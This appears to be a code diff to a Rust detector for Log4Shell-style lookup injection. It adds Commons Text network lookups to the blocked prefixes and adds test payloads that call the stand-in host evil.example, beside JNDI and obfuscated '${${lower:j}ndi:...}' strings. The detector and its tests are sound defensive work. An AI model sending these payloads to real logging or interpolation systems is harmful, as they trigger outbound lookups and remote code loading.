@@ -53,6 +53,9 @@ fn loads(lookup: &[u8]) -> bool {
         || contains(bare, b"jndi:ldap")
         || contains(bare, b"jndi:rmi")
         || contains(bare, b"jndi:dns")
+        // Those of Commons Text that ask the network.
+        || bare.starts_with(b"dns:address|")
+        || bare.starts_with(b"url:utf-8:")
 }
 
 /// `lower:j` is `j`, `::-j` is `j`, `env:NOTHING:-j` is `j`.
@@ -115,7 +118,9 @@ mod tests {
 
     #[test]
     fn lookups_are_found_however_they_are_hidden() {
-        let attacks: [&[u8]; 7] = [
+        let attacks: [&[u8]; 9] = [
+            b"${dns:address|evil.example}",
+            b"${url:UTF-8:http://evil.example}",
             b"${jndi:ldap://x/a}",
             b"x${JNDI:dns://x}",
             b"${${lower:j}ndi:rmi://x}",
